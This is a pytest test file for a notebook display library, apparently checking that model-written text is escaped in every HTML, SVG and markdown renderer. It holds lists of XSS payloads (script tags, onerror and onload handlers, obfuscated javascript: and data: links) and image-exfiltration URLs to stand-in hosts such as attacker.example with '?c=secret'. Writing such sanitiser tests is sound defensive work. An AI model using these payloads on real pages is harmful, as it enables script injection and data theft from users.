"""Model-written text never reaches HTML or SVG unescaped, in any renderer."""

from __future__ import annotations

import base64
import html as htmllib
import re
import xml.etree.ElementTree as ET

import pytest

from cortex_jupyter.display import (
    IncrementalMarkdown,
    ViewState,
    details_html,
    fill_references,
    graph_svg,
    header_html,
    render_markdown,
    static_html,
    thought_html,
    timeline_svg,
)
from cortex_jupyter.display.markdown import LITERAL_CLASS, MATH_CLASS
from cortex_jupyter.protocol import (
    Action,
    ActionReady,
    ActionStart,
    ProtocolError,
    ResponseDelta,
    ResponseEnd,
)
from cortex_jupyter.runtime import Nested

from .helpers import feed, parse, status

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "</title><script>alert(1)</script>",
    "]]><!-- \x00\x1b[31m \ud800 &amp; &#60;script&#62;",
]
SVG_ELEMENTS = {"svg", "defs", "marker", "path", "g", "title", "rect", "text", "line"}
HTML_ELEMENTS = SVG_ELEMENTS | {
    "root", "div", "span", "b", "details", "summary", "ul", "li", "p", "h1", "h2", "pre",
    "code", "a", "em", "strong", "blockquote",
}  # fmt: skip


def hostile_state(payload: str) -> ViewState:
    state = ViewState(model=payload)
    text = (
        f"<thought>{payload}\n"
        f'<action id="a1">{{"name": "{_json(payload)}", "parameters": {{"q": "{_json(payload)}"}}}}'
        f"</action></thought>"
        f'<action id="bad">{{"name": {_json(payload)}}}</action>'
        f"<response>{payload}\n\n[x]({payload}) `{payload}`\n\n```{payload}\n{payload}\n```"
        f"</response>"
    )
    feed(state, parse(text, chunk=7))
    hostile = Action(id=payload, name=payload, type=payload, mode=payload, depends_on=("a1",))
    for event in [
        ActionStart(id=payload + "2", type=payload, mode=payload),
        ActionReady(hostile),
        status(payload, "failed", 200.0, error=payload, output=payload, note=payload),
        status("a1", "done", 201.0, output=payload),
        status("w.1", "skipped", 202.0, parent="a1", name=payload, error=payload),
        Nested("a1", status(payload, "running", 203.0, name=payload)),
        ProtocolError("forged_result", payload),
    ]:
        state.apply(event, 200.0)
    return state


def _json(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\x00", "").replace("\x1b", "")


def outputs(state: ViewState) -> dict[str, str]:
    md = IncrementalMarkdown()
    return {
        "graph": graph_svg(state, now=300.0),
        "timeline": timeline_svg(state, now=300.0),
        "details": details_html(state),
        "header": header_html(state, 300.0),
        "thought": thought_html(state),
        "response": md.render(state.body),
        "static": static_html(state, now=300.0),
    }


def check_tree(root: ET.Element, allowed: set[str]) -> None:
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        assert tag in allowed, tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            if name in ("href", "src"):
                assert not value.lower().lstrip().startswith(("javascript", "data:text")), value


#: The graph's own picture in the static copy (``static.picture_html``).
PICTURE = re.compile(r'<img class="cortex-graph" src="data:image/svg\+xml;base64,([^"]+)"[^>]*/>')


def split_pictures(html: str) -> tuple[str, list[str]]:
    """``html`` without the graph's ``<img>`` pictures, and the SVG text of each."""
    svgs = [base64.b64decode(m).decode("utf-8") for m in PICTURE.findall(html)]
    return PICTURE.sub("", html), svgs


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_renderer_lets_model_text_through(payload: str) -> None:
    found = outputs(hostile_state(payload))
    found["static"], pictures = split_pictures(found["static"])
    assert len(pictures) == 1  # the graph, as a data URI picture
    for svg in pictures:
        found["static picture"] = svg
    for name, out in found.items():
        lowered = out.lower()
        for raw in ("<script", "<img", "<iframe", "<svg onload", "\x00", "\x1b"):
            assert raw not in lowered, (name, raw)
        if name in ("graph", "timeline", "static picture"):
            check_tree(ET.fromstring(out), SVG_ELEMENTS)
        else:
            check_tree(ET.fromstring(f"<root>{out}</root>"), HTML_ELEMENTS)


def test_payload_text_is_still_shown_escaped() -> None:
    out = outputs(hostile_state("<script>alert(1)</script>"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out["thought"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out["response"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out["graph"]


# ----------------------------------------------------------------------------- markdown

HOSTILE_MARKDOWN = {
    "autolink javascript": "<javascript:alert(1)>",
    "autolink vbscript": "<VBScript:msgbox(1)>",
    "autolink data html": "<data:text/html;base64,PHNjcmlwdD4=>",
    "entity in scheme": "[x](jav&#x61;script:alert(1))",
    "decimal entity": "[x](&#106;avascript:alert(1))",
    "tab entity": "[x](java&#x09;script:alert(1))",
    "newline entity": "[x](java&#10;script:alert(1))",
    "upper case": "[x](JAVASCRIPT:alert(1))",
    "space before": "[x](   javascript:alert(1))",
    "angle destination": "[x](<javascript:alert(1)>)",
    "data html link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "reference link": "[x][r]\n\n[r]: javascript:alert(1)",
    "reference image": "![x][r]\n\n[r]: http://evil.example/",
    "collapsed reference image": "![r][]\n\n[r]: https://evil.example/p.png?c=secret",
    "image in link": "[![x](http://evil.example/i.png)](http://example.org)",
    "link in image": "![a [b](javascript:alert(1)) c](http://evil.example/i.png)",
    "image javascript": "![x](javascript:alert(1))",
    "image data html": "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "image data svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image protocol-relative": "![x](//evil.example/p.png)",
    "image title quote": '![x](http://e.example/p.png "a\\" onerror=alert(1) x=")',
    "image alt markup": "![<img src=x onerror=alert(1)>](http://e.example/p.png)",
    "math html": "$<img src=x onerror=alert(1)>$ and $$</span><script>alert(1)</script>$$",
    "bracket math html": "\\(</span><script>alert(1)</script>\\)",
    "html block": "<div onclick=alert(1)>x</div>",
    "inline html": "a <img src=x onerror=alert(1)> b",
}
ALLOWED_SCHEMES = {None, "http", "https", "mailto"}


def scheme(url: str) -> str | None:
    """The scheme a browser reads in an attribute's value: entities decoded, tabs and
    line breaks removed anywhere, leading controls and spaces dropped (WHATWG URL)."""
    url = re.sub(r"[\t\n\r]", "", htmllib.unescape(url)).lstrip("".join(map(chr, range(33))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", url)
    return match.group(1).lower() if match else None


def assert_safe_markdown_html(out: str) -> None:
    """Well-formed, only harmless elements, no event handlers, links only to allowed
    schemes (a relative ``javascript`` while the ``:`` has not arrived is harmless), and
    images only from inline data."""
    for element in ET.fromstring(f"<root>{out}</root>").iter():
        assert element.tag in HTML_ELEMENTS | {"img"}, element.tag
        assert not any(name.lower().startswith("on") for name in element.attrib)
        if "href" in element.attrib:
            assert scheme(element.attrib["href"]) in ALLOWED_SCHEMES, element.attrib
        if "src" in element.attrib:
            assert re.match(r"data:image/(png|jpeg|gif|webp);", element.attrib["src"])


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
def test_hostile_markdown_is_inert(text: str) -> None:
    full = render_markdown(text)
    assert_safe_markdown_html(full)
    md = IncrementalMarkdown()
    for end in range(len(text) + 1):
        assert md.render(text[:end]) == render_markdown(text[:end])
        assert_safe_markdown_html(md.render(text[:end]))


def test_remote_images_are_links_in_the_live_view_and_the_static_copy() -> None:
    state = ViewState()
    body = (
        "![chart](https://attacker.example/p.png?c=secret) and ![dot](data:image/png;base64,AA==)"
    )
    feed(state, parse(f"<response>{body}</response>"))
    for out in (IncrementalMarkdown().render(state.body), static_html(state, now=300.0)):
        assert '<img src="https://' not in out and 'attacker.example/p.png?c=secret"' in out
        assert re.search(
            r'<a href="https://attacker\.example/p\.png\?c=secret"[^>]*'
            r'rel="noopener noreferrer nofollow"[^>]*>🖼 chart</a>',
            out,
        )
        assert '<img src="data:image/png;base64,AA==" alt="dot">' in out


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1)) ![i](http://evil.example/p.png?c=1)",
        "**bold** `code` <b>b</b> &lt;entity&gt;",
        "$x$ and $$y$$ and \\(z\\) and \\[w\\] \\begin{align}a\\end{align}",
        "$other, not filled again",
    ],
)
def test_a_value_is_shown_as_text_never_interpreted(value: str) -> None:
    values = {"v": value, "other": "SHOULD NOT APPEAR"}
    for out in (render_markdown("Shown: $v", values), render_markdown("[$v](#a)", values)):
        assert_safe_markdown_html(out)
        assert MATH_CLASS not in out and "<strong>" not in out and "<b>" not in out
        assert out.count("<a ") <= 1 and "<img" not in out and "SHOULD NOT" not in out
        assert value in htmllib.unescape(re.sub(r"<[^>]*>", "", out))


class Frame:
    """A DataFrame-like value: a text form and an HTML table that carries a payload."""

    def __str__(self) -> str:
        return "   a\n0  1"

    def _repr_html_(self) -> str:
        return (
            '<table onclick="alert(1)"><tr><th>a</th></tr><tr><td>$1 and $2</td></tr></table>'
            "<script>alert(1)</script><img src=x onerror=alert(1)>"
        )


def test_a_rich_value_shows_its_rich_form_sanitized_in_the_view_and_the_copy() -> None:
    # Issue 18 item 2: a DataFrame in the answer is a table, as a notebook shows it.
    state = ViewState(model="m")
    feed(state, [ResponseDelta("The table:\n\n$frame\n\nDone.", True), ResponseEnd(True)])
    values = {"frame": Frame()}
    live, copy = (
        IncrementalMarkdown().render(state.body, values),
        static_html(state, values, now=300.0),
    )
    for out in (live, copy):
        # A block of its own (no <p> around it), whose `$` MathJax never reads.
        assert f'<p>The table:</p>\n<div class="{LITERAL_CLASS}"><div ' in out
        assert "<table><tr><th>a</th></tr><tr><td>$1 and $2</td></tr></table></div></div>" in out
        assert "<script" not in out and "onclick" not in out and "onerror" not in out
    assert live == render_markdown(state.body, values)
    # The answer in Python and the copy's text show its text form.
    assert fill_references("See $frame", values)[0] == "See    a\n0  1"
